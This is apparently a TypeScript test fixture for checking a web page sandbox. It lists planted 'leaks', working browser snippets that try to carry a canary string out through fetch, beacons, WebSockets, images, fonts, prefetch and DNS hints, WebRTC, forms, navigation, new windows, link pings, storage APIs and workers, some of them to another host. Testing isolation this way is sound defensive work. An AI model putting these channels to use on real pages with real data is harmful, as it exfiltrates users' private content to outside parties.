/**
 * Leaks, planted on purpose. Each is what careless or hostile code in the page could do with words of a note. They run
 * in the page and stand for themselves: nothing outside of a plant's function is known there.
 */
export interface Target {
  canary: string;
  /** The page's own address. */
  own: string;
  /** A host that is not the page's. */
  other: string;
  udp: number;
}

export interface Plant {
  name: string;
  /** Where it runs. `own page`: it may take the page away, and gets one of its own. */
  where: "page" | "own page" | "worker";
  run: (target: Target) => unknown;
}

export const PLANTS: Plant[] = [
  { name: "fetch, own host, in the address", where: "page", run: ({ own, canary }) => fetch(`${own}?${canary}`) },
  { name: "fetch, own host, base64 in the body", where: "page", run: ({ own, canary }) => fetch(own, { method: "POST", body: btoa(`-${canary}-`) }) },
  { name: "fetch, other host", where: "page", run: ({ other, canary }) => fetch(`${other}${canary}`, { mode: "no-cors" }) },
  { name: "beacon, own host", where: "page", run: ({ own, canary }) => navigator.sendBeacon(own, canary) },
  { name: "beacon, other host", where: "page", run: ({ other, canary }) => navigator.sendBeacon(other, canary) },
  { name: "WebSocket, own host", where: "page", run: ({ own, canary }) => void new WebSocket(`${own.replace("http", "ws")}?${canary}`) },
  { name: "WebSocket, other host", where: "page", run: ({ other, canary }) => void new WebSocket(`${other.replace("http", "ws")}${canary}`) },
  { name: "EventSource", where: "page", run: ({ own, canary }) => void new EventSource(`${own}?${canary}`) },
  { name: "image, own host", where: "page", run: ({ own, canary }) => void (new Image().src = `${own}?${canary}`) },
  { name: "image, other host", where: "page", run: ({ other, canary }) => void (new Image().src = `${other}${canary}`) },
  { name: "style sheet", where: "page", run: ({ own, canary }) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${own}?${canary}` })) },
  { name: "picture in a style", where: "page", run: ({ own, canary }) => void (document.body.style.backgroundImage = `url("${own}?${canary}")`) },
  { name: "font", where: "page", run: ({ own, canary }) => new FontFace("leak", `url("${own}?${canary}")`).load() },
  { name: "script element", where: "page", run: ({ own, canary }) => document.head.append(Object.assign(document.createElement("script"), { src: `${own}?${canary}` })) },
  { name: "import()", where: "page", run: ({ own, canary }) => import(`${own}?${canary}`) },
  { name: "frame", where: "page", run: ({ own, canary }) => document.body.append(Object.assign(document.createElement("iframe"), { src: `${own}?${canary}` })) },
  { name: "prefetch", where: "page", run: ({ own, canary }) => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: `${own}?${canary}` })) },
  { name: "preconnect", where: "page", run: ({ canary }) => document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: `http://${canary}.example/` })) },
  { name: "dns-prefetch", where: "page", run: ({ canary }) => document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: `//${canary}.invalid/` })) },
  { name: "worker, in the address", where: "page", run: ({ own, canary }) => void new Worker(`${own}worker.js?${canary}`, { type: "module" }) },
  { name: "shared worker, in the address", where: "page", run: ({ own, canary }) => void new SharedWorker(`${own}worker.js?${canary}`) },
  { name: "service worker, in the address", where: "page", run: ({ own, canary }) => navigator.serviceWorker.register(`${own}sw.js?${canary}`, { scope: `${own}never/` }) },
  {
    name: "WebRTC",
    where: "page",
    run: async ({ udp }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((done) => setTimeout(done, 1500));
      peer.close();
    },
  },
  {
    name: "WebRTC, out of a blank frame",
    where: "page",
    run: async ({ udp }) => {
      const frame = document.body.appendChild(document.createElement("iframe"));
      const { RTCPeerConnection } = frame.contentWindow as unknown as typeof globalThis;
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((done) => setTimeout(done, 1500));
      peer.close();
    },
  },
  { name: "cookie", where: "page", run: ({ canary }) => void (document.cookie = `leak=${canary}; max-age=9999`) },
  { name: "localStorage", where: "page", run: ({ canary }) => localStorage.setItem("leak", canary) },
  { name: "sessionStorage", where: "page", run: ({ canary }) => sessionStorage.setItem("leak", canary) },
  {
    name: "IndexedDB",
    where: "page",
    run: ({ canary }) =>
      new Promise<void>((done, fail) => {
        const request = indexedDB.open("leak", 1);
        request.onupgradeneeded = () => void request.result.createObjectStore("leak").put(canary, 1);
        request.onsuccess = () => (request.result.close(), done());
        request.onerror = () => fail(request.error);
      }),
  },
  { name: "Cache API", where: "page", run: async ({ own, canary }) => (await caches.open("leak")).put(`${own}leak`, new Response(canary)) },
  {
    name: "private file system",
    where: "page",
    run: async ({ canary }) => {
      const file = await (await navigator.storage.getDirectory()).getFileHandle("leak", { create: true });
      const stream = await file.createWritable();
      await stream.write(canary);
      await stream.close();
    },
  },
  { name: "title", where: "page", run: ({ canary }) => void (document.title = canary) },
  { name: "console", where: "page", run: ({ canary }) => console.info(canary) },
  { name: "address, without a request", where: "own page", run: ({ canary }) => history.pushState(null, "", `?${canary}`) },
  { name: "form, own host", where: "own page", run: ({ own, canary }) => (document.body.insertAdjacentElement("beforeend", Object.assign(document.createElement("form"), { action: `${own}${canary}`, method: "post" })) as HTMLFormElement).submit() },
  { name: "form, other host", where: "own page", run: ({ other, canary }) => (document.body.insertAdjacentElement("beforeend", Object.assign(document.createElement("form"), { action: `${other}${canary}`, method: "post" })) as HTMLFormElement).submit() },
  { name: "navigation, own host", where: "own page", run: ({ own, canary }) => location.assign(`${own}?${canary}`) },
  { name: "navigation, other host", where: "own page", run: ({ other, canary }) => location.assign(`${other}${canary}`) },
  { name: "meta refresh, other host", where: "own page", run: ({ other, canary }) => document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${other}${canary}` })) },
  { name: "new window, own host", where: "own page", run: ({ own, canary }) => void window.open(`${own}?${canary}`) },
  { name: "new window, other host", where: "own page", run: ({ other, canary }) => void window.open(`${other}${canary}`) },
  { name: "new window, out of a blank frame", where: "own page", run: ({ other, canary }) => void document.body.appendChild(document.createElement("iframe")).contentWindow?.open(`${other}${canary}`) },
  { name: "link with a ping", where: "own page", run: ({ own, other, canary }) => (document.body.insertAdjacentElement("beforeend", Object.assign(document.createElement("a"), { href: "#", ping: `${own}?${canary} ${other}${canary}` })) as HTMLElement).click() },
  { name: "fetch in the worker, own host", where: "worker", run: ({ own, canary }) => fetch(`${own}?${canary}`) },
  { name: "fetch in the worker, other host", where: "worker", run: ({ other, canary }) => fetch(`${other}${canary}`, { mode: "no-cors" }) },
  { name: "WebSocket in the worker", where: "worker", run: ({ other, canary }) => void new WebSocket(`${other.replace("http", "ws")}${canary}`) },
  { name: "import() in the worker", where: "worker", run: ({ own, canary }) => import(`${own}?${canary}`) },
  { name: "console in the worker", where: "worker", run: ({ canary }) => console.info(canary) },
  {
    name: "IndexedDB in the worker",
    where: "worker",
    run: ({ canary }) =>
      new Promise<void>((done, fail) => {
        const request = indexedDB.open("leak-worker", 1);
        request.onupgradeneeded = () => void request.result.createObjectStore("leak").put(canary, 1);
        request.onsuccess = () => (request.result.close(), done());
        request.onerror = () => fail(request.error);
      }),
  },
];
